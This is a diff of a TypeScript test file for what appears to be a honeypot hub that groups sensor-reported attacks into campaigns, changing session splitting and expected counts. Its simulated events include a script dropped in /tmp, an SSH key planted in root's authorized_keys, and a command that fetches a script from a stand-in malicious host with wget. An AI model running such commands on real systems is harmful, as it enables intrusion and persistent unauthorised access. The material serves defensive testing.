@@ -92,7 +92,8 @@ describe('in a hub', () => {
   const attack = async (sensor: Member, source: string, things: readonly [string, object][], ago = 3_600_000) => {
     const boot = uuidv7()
     const session = uuidv7()
-    const at = Date.now() - ago
+    // All within one hour of the clock.
+    const at = Math.floor((Date.now() - ago) / 3_600_000) * 3_600_000 + (Date.now() % 1000)
     const event = (seq: number, kind: string, payload: object) => ({
       id: uuidv7(),
       sensor: sensor.name,
@@ -138,8 +139,9 @@ describe('in a hub', () => {
       ['artifact.stored', { sha256: file, size: 900, name: '/tmp/x.sh' }],
       ['artifact.stored', { sha256: 'b'.repeat(64), size: 2, name: '/tmp/ok' }],
     ])
+    // One connection carries the program, another plants the key.
+    await attack(a2, '8.8.8.9', [['artifact.stored', { sha256: file, size: 900, name: '/tmp/y' }]])
     await attack(a2, '8.8.8.9', [
-      ['artifact.stored', { sha256: file, size: 900, name: '/tmp/y' }],
       ['key.planted', { key: 'ssh-rsa AAAA x', fingerprint: key, path: '/root/.ssh/authorized_keys' }],
     ])
     await attack(b1, '8.8.8.10', [
@@ -182,7 +184,7 @@ describe('in a hub', () => {
     const id = list[0]?.campaign ?? ''
     expect(list).toHaveLength(1)
     const one = await operator.api('GET', `campaigns/${id}`)
-    expect(one.body).toMatchObject({ sources: 3, sessions: 3 })
+    expect(one.body).toMatchObject({ sources: 3, sessions: 4 })
     const days = one.body['days'] as { sources: number }[]
     expect(days.reduce((sum, { sources }) => sum + sources, 0)).toBe(3)
     const part = async (who: Browser, name: string) =>
@@ -192,7 +194,7 @@ describe('in a hub', () => {
       ['key', 2],
       ['host', 1],
     ])
-    expect((await part(operator, 'sources')).map(({ source }) => source)).toEqual(['1.1.1.7', '8.8.8.10', '8.8.8.9'])
+    expect((await part(operator, 'sources')).map(({ source }) => source)).toEqual(['8.8.8.9', '1.1.1.7', '8.8.8.10'])
     expect(await part(operator, 'commands')).toMatchObject([{ line: 'wget http://cdn.bad.example/x.sh', sources: 1 }])
     // The holder of AS13335 sees its own address in it, and nobody else's.
     const mine = await desk.api('GET', 'campaigns')
